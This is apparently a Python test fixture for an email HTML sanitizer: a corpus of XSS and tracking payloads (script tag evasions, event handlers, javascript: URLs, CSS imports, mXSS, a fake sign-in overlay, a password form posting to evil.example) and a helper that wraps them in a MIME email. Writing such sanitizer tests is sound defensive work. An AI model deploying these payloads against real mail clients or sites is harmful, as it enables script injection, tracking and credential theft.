"""Hostile HTML a client's email may carry, and a way to wrap it in a real MIME message.

Every script here tries to be seen (an alert, a changed title, a request), and every remote
reference points at evil.example, so a test can tell whether anything ran or left the page.
"""

from __future__ import annotations

from email.message import EmailMessage

EVIL = "https://evil.example"

# A 1x1 PNG, for the inline (cid:) image.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2b05b"
    "6b0000000049454e44ae426082"
)

CORPUS: dict[str, str] = {
    # script tags in all spellings
    "script": "<script>alert('script')</script>",
    "script-upper-src": f"<SCRIPT SRC={EVIL}/upper.js></SCRIPT>",
    "script-slash": f'<script/xss src="{EVIL}/slash.js"></script>',
    "script-split": "<scr<script>ipt>alert('split')</scr</script>ipt>",
    "script-double-open": "<<script>alert('double');//<</script>",
    "script-in-comment": "<!--<img src=\"--><script>alert('comment')</script>-->",
    "script-type": "<script type=\"text/html\">alert('type')</script>",
    "script-in-template": "<template><script>alert('template')</script></template>",
    "script-in-noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\">",
    "event-handlers": (
        "<img src=x onerror=\"alert('onerror')\"><body onload=\"alert('onload')\">"
        "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary></details>"
        "<div onmouseover=\"alert('over')\">hover</div>"
    ),
    # SVG and MathML
    "svg-onload": "<svg onload=\"alert('svg')\"></svg>",
    "svg-script": "<svg><script>alert('svg-script')</script></svg>",
    "svg-xlink": (
        '<svg><a xlink:href="javascript:alert(\'xlink\')"><text x="0" y="10">x</text></a></svg>'
    ),
    "svg-image": f'<svg><image href="{EVIL}/svg-image.png"/></svg>',
    "svg-style-import": f"<svg><style>@import url({EVIL}/svg-style.css);</style></svg>",
    # CSS
    "css-expression": "<p style=\"width: expression(alert('expr'))\">expression</p>",
    "css-javascript-url": "<div style=\"background:url(javascript:alert('cssjs'))\">x</div>",
    "css-behavior": f'<div style="behavior: url({EVIL}/x.htc)">behavior</div>',
    "css-binding": f'<div style="-moz-binding: url({EVIL}/x.xml#xss)">binding</div>',
    "css-escaped": f'<div style="background: u\\72 l({EVIL}/escaped.png)">escaped</div>',
    "css-remote-background": f'<td style="background-image: url({EVIL}/bg.png)">bg</td>',
    "css-import": f"<style>@import url({EVIL}/import.css);</style>",
    "css-style-block": f"<style>body{{background:url({EVIL}/style-bg.png)}}</style>",
    "css-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/font.woff)}}</style>",
    "css-overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
        'background:#fff">Your session expired: sign in again</div>'
    ),
    "link-stylesheet": f"<link rel=stylesheet href={EVIL}/link.css>",
    "link-prefetch": f"<link rel=prefetch href={EVIL}/prefetch>",
    # document-level tricks
    "base": f'<base href="{EVIL}/"><img src="relative.png"><a href="relative">relative</a>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "meta-csp": (
        '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'
    ),
    # remote pictures and tracking
    "tracking-pixel": f'<img src="{EVIL}/pixel.gif" width="1" height="1" alt="">',
    "srcset": f'<img srcset="{EVIL}/srcset-1x.png 1x, {EVIL}/srcset-2x.png 2x">',
    "picture": f'<picture><source srcset="{EVIL}/picture.png"><img alt="p"></picture>',
    "table-background": f'<table background="{EVIL}/table-bg.png"><tr><td>t</td></tr></table>',
    "video-poster": f'<video poster="{EVIL}/poster.png" src="{EVIL}/video.mp4"></video>',
    "audio": f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
    "input-image": f'<input type="image" src="{EVIL}/input.png">',
    "protocol-relative": '<img src="//evil.example/protocol-relative.png">',
    # frames, objects, forms
    "iframe-remote": f'<iframe src="{EVIL}/frame"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('inner')</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:alert('iframe-js')\"></iframe>",
    "frameset": f'<frameset><frame src="{EVIL}/frameset"></frameset>',
    "object": f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash"></object>',
    "embed": f'<embed src="{EVIL}/embed.swf">',
    "form": (
        f'<form action="{EVIL}/steal" method="post"><input name="password" type="password">'
        f'<button formaction="{EVIL}/formaction">Sign in</button></form>'
    ),
    "isindex": "<isindex action=\"javascript:alert('isindex')\" type=image>",
    # javascript:, data: and friends in URLs
    "href-javascript": "<a href=\"javascript:alert('href')\">a</a>",
    "href-mixed-case": "<a href=\"JaVaScRiPt:alert('case')\">b</a>",
    "href-entity": "<a href=\"&#106;avascript:alert('entity')\">c</a>",
    "href-tab": "<a href=\"java&#x09;script:alert('tab')\">d</a>",
    "href-space": "<a href=\" javascript:alert('space')\">e</a>",
    "href-vbscript": '<a href="vbscript:msgbox(1)">f</a>',
    "href-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">g</a>',
    "src-javascript": "<img src=\"javascript:alert('src')\">",
    "src-data-svg": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='alert(1)'/>\">"
    ),
    "ping": f'<a href="https://ok.example/" ping="{EVIL}/ping">ping</a>',
    # last: it leaves the <math> open, which swallows whatever follows it
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
}


def hostile_html() -> str:
    """The whole corpus as one email body, each case in its own block."""
    cases = "".join(f'<div title="{name}">{html}</div>' for name, html in CORPUS.items())
    return (
        "<html><head><title>hostile</title></head><body>"
        '<p id="ok">Dear client, see the statement below.</p>'
        '<table style="border-collapse:collapse"><tr><td style="border:1px solid #888;'
        'padding:4px;color:rgb(200, 0, 0)">Balance</td><td>1 234,00</td></tr></table>'
        '<img id="logo" src="cid:logo@firm.example" alt="logo">'
        f"{cases}</body></html>"
    )


def mime_message(
    html: str,
    *,
    text: str = "Plain text version",
    sender: str = "client@client.test",
    inline_png: bool = True,
) -> bytes:
    """A multipart/alternative message (text + HTML), the HTML related to an inline PNG."""
    message = EmailMessage()
    message["From"] = f"Client <{sender}>"
    message["To"] = "accountant@firm.test"
    message["Subject"] = "Statement"
    message.set_content(text)
    message.add_alternative(html, subtype="html")
    if inline_png:
        html_part = message.get_payload()[1]
        html_part.add_related(PNG, "image", "png", cid="<logo@firm.example>", filename="logo.png")
    return message.as_bytes()
